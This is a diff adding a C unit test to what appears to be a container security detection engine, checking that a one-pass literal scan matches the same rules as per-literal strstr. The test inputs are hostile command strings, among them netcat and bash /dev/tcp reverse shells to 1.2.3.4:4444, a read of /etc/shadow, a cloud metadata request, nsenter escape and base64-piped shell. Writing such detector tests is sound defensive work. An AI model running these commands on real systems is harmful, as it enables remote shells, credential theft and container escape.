@@ -256,6 +256,41 @@ START_TEST(prefilter_never_hides_a_match)
 }
 END_TEST
 
+/* The one-pass literal search (rules_prepare) decides exactly as one
+ * strstr per literal does: the same rules match on every text, put in
+ * every field at once and in each field alone. */
+START_TEST(prepared_scan_agrees_with_strstr)
+{
+    ruleset rs = RULESET_INIT;
+    char err[256];
+    ck_assert_int_eq(rules_load_builtin(&rs, err, sizeof err), 0);
+    ck_assert_ptr_nonnull(rs.scan);
+    static const char *const texts[] = {
+        "/usr/bin/nc -e /bin/sh 1.2.3.4 4444", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "/bin/sh",
+        "cat /etc/shadow", "/etc/cron.d/x", "sock tcp 10.0.0.1:4000 -> 1.2.3.4:4444", "nsenter -t 1 -m sh",
+        "curl http://169.254.169.254/latest", "chmod u+s /tmp/x", "echo x | base64 -d | sh", "yes", "",
+        "cap CAP_SYS_ADMIN", "/run/containerd/containerd.sock", "/usr/sbin/insmod x.ko", "process_exec",
+    };
+    for (size_t t = 0; t < sizeof texts / sizeof texts[0]; t++)
+        for (int field = -1; field < F_NFIELDS; field++) {
+            facts fx = container_exec("/bin/true", "");
+            for (int f = 0; f < F_NFIELDS; f++)
+                if (field < 0 || f == field) fx.f[f] = texts[t];
+            verdict a, b;
+            rules_eval(&rs, &fx, &a);
+            rules_scan *keep = rs.scan;
+            rs.scan = NULL;
+            rules_eval(&rs, &fx, &b);
+            rs.scan = keep;
+            ck_assert_uint_eq(a.nmatched, b.nmatched);
+            for (size_t i = 0; i < a.nmatched; i++)
+                ck_assert_msg(a.matched[i] == b.matched[i], "[%s] in field %d: %s vs %s", texts[t], field,
+                              a.matched[i]->name, b.matched[i]->name);
+        }
+    rules_free(&rs);
+}
+END_TEST
+
 START_TEST(rules_file_reports_line)
 {
     char path[] = "/tmp/test_enrich_rules_XXXXXX";
@@ -283,6 +318,7 @@ static void add_tests(TCase *tc) {
     tcase_add_test(tc, rules_file_reports_line);
     tcase_add_test(tc, prefilter_literals);
     tcase_add_test(tc, prefilter_never_hides_a_match);
+    tcase_add_test(tc, prepared_scan_agrees_with_strstr);
 }
 
 int main(void) {
